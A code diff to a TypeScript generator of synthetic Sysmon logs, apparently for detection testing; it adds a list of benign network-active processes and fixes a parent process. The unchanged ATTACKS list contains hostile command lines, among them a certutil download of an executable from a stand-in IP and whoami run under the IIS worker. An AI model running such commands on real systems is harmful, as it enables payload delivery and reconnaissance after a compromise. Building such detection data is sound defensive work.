@@ -32,13 +32,15 @@ export function prng(seed: number): () => number {
 const BENIGN_PROCS = [
   ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
   ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
-  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\svchost.exe'],
+  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\cmd.exe'],
   ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', 'C:\\Windows\\explorer.exe'],
   ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'C:\\Windows\\System32\\svchost.exe'],
   ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
   ['C:\\Program Files\\Git\\cmd\\git.exe', 'git status --porcelain', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'],
   ['C:\\Windows\\System32\\SearchProtocolHost.exe', '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_', 'C:\\Windows\\System32\\SearchIndexer.exe'],
 ];
+/** Processes that talk to the internet in the benign background. */
+const NET_PROCS = ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe'];
 const ATTACKS = [
   ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'c:\\windows\\system32\\inetsrv\\w3wp.exe'],
   ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\cmd.exe'],
@@ -94,7 +96,7 @@ export async function generate(path: string, count: number, seed = 1505): Promis
     } else if (r < 0.6) {
       line = sysmonRecord(i, 11, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(BENIGN_PROCS)[0], TargetFilename: `C:\\Users\\alice\\AppData\\Local\\Temp\\tmp${(i * 7919) % 100000}.tmp`, CreationUtcTime: time, User: 'CORP\\alice' });
     } else if (r < 0.8) {
-      line = sysmonRecord(i, 3, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(BENIGN_PROCS)[0], User: 'CORP\\alice', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: `10.0.${i % 255}.${(i * 3) % 255}`, SourceHostname: 'ws.corp.example', SourcePort: 49152 + (i % 10000), DestinationIsIpv6: 'false', DestinationIp: `93.184.${i % 255}.${(i * 5) % 255}`, DestinationHostname: 'example.com', DestinationPort: 443, DestinationPortName: 'https' });
+      line = sysmonRecord(i, 3, time, { RuleName: '-', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(NET_PROCS), User: 'CORP\\alice', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: `10.0.${i % 255}.${(i * 3) % 255}`, SourceHostname: 'ws.corp.example', SourcePort: 49152 + (i % 10000), DestinationIsIpv6: 'false', DestinationIp: `93.184.${i % 255}.${(i * 5) % 255}`, DestinationHostname: 'example.com', DestinationPort: 443, DestinationPortName: 'https' });
     } else if (r < 0.95) {
       line = sysmonRecord(i, 13, time, { RuleName: '-', EventType: 'SetValue', UtcTime: time, ProcessGuid: guid, ProcessId: 5120, Image: pick(BENIGN_PROCS)[0], TargetObject: `HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\${i % 97}`, Details: `DWORD (0x0000000${i % 9})`, User: 'CORP\\alice' });
     } else {
